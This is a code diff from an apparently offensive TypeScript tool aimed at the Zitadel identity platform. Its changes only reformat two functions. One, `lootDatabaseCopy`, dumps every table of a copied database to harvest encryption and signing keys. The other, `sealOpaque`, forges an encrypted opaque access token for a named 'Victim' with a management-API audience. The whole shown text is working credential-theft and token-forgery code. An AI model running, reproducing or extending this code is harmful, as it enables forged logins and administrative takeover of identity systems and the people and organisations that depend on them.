@@ -20,7 +20,10 @@ export interface Victim {
 export function lootDatabaseCopy(file: string): { keys: Buffer[]; signingKeys: { kid?: string; key: KeyObject }[]; texts: string[] } {
   const db = new Database(file, { readonly: true });
   try {
-    const tables = db.prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '%fts%'").pluck().all() as string[];
+    const tables = db
+      .prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '%fts%'")
+      .pluck()
+      .all() as string[];
     const texts: string[] = [];
     for (const table of tables) {
       for (const row of db.prepare(`SELECT * FROM "${table}"`).raw().all() as unknown[][]) {
@@ -59,7 +62,14 @@ export function lootDatabaseCopy(file: string): { keys: Buffer[]; signingKeys: {
 export function sealOpaque(key: Buffer, v: Victim, managementAudience: string): string {
   const iatMs = Date.now();
   const header = Buffer.concat([Buffer.from([1]), newJtiBytes(iatMs)]);
-  const claims = [v.userId, v.clientId, v.orgId, 'openid urn:zitadel:iam:org:project:id:zitadel:aud', [v.clientId, managementAudience], Math.floor(iatMs / 1000) + LIFETIME_SECONDS];
+  const claims = [
+    v.userId,
+    v.clientId,
+    v.orgId,
+    'openid urn:zitadel:iam:org:project:id:zitadel:aud',
+    [v.clientId, managementAudience],
+    Math.floor(iatMs / 1000) + LIFETIME_SECONDS,
+  ];
   const d = createHmac('sha512', key).update(header).digest();
   const cipher = createCipheriv('aes-256-gcm', d.subarray(0, 32), d.subarray(32, 44));
   cipher.setAAD(header);
